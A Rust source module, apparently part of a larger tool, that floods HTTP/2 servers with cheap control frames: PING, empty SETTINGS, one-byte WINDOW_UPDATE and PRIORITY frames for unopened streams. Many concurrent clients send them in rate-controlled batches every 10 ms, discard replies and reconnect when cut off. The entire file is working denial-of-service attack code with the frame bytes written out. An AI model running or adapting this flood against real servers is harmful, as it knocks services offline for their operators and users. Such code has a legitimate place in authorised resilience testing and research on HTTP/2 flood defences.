//! Floods of small HTTP/2 frames that request nothing but cost work. The server's answers are read and dropped.

use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

use super::Attack;
use super::{AttackState, OpenConnection, count};

/// The preface, and SETTINGS without any setting.
const OPENING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const PING: &[u8] = b"\0\0\x08\x06\0\0\0\0\0attacker";
const SETTINGS: &[u8] = b"\0\0\0\x04\0\0\0\0\0";
/// For the connection, by one byte: the window does not overflow in any run.
const WINDOW_UPDATE: &[u8] = b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01";
/// For a stream that is not open.
const PRIORITY: &[u8] = b"\0\0\x05\x02\0\0\0\0\x03\0\0\0\0\x10";
/// How often a client sends the frames that are due.
const SEND_EVERY: Duration = Duration::from_millis(10);
/// A client waits for this time before it reconnects.
const BACK_AFTER: Duration = Duration::from_millis(200);

pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
    for _ in 0..scene.flags.clients {
        let scene = scene.clone();
        clients.spawn(async move {
            let mut is_first = true;
            loop {
                if flood(&scene, &mut is_first).await.is_err() {
                    count(&scene.counts.refused);
                }
                tokio::time::sleep(BACK_AFTER).await;
            }
        });
    }
}

/// One connection, until the server closes it.
async fn flood(scene: &AttackState, is_first: &mut bool) -> Result<()> {
    let frame = match scene.flags.attack {
        Attack::Settings => SETTINGS,
        Attack::WindowUpdates => WINDOW_UPDATE,
        Attack::Priorities => PRIORITY,
        _ => PING,
    };
    let each_s = scene.flags.rate / scene.flags.clients.max(1) as f64;
    let frames = (each_s * SEND_EVERY.as_secs_f64()).ceil().max(1.0) as usize;
    let batch = frame.repeat(frames);
    let stream = scene.target.connect_from(scene.flags.source, "h2").await?;
    let (mut reader, mut writer) = tokio::io::split(stream);
    writer.write_all(OPENING).await?;
    let _open = OpenConnection::of(scene);
    if std::mem::take(is_first) {
        count(&scene.counts.started);
    }
    let sending = async {
        let mut tick = tokio::time::interval(SEND_EVERY);
        loop {
            tick.tick().await;
            if writer.write_all(&batch).await.is_err() {
                return;
            }
            let done = &scene.counts.done;
            done.fetch_add(frames as u64, Ordering::Relaxed);
        }
    };
    let reading = async {
        let mut buffer = vec![0; 64 << 10];
        while reader.read(&mut buffer).await.is_ok_and(|len| len > 0) {}
    };
    tokio::select! {
        () = sending => {}
        () = reading => {}
    }
    count(&scene.counts.closed);
    Ok(())
}
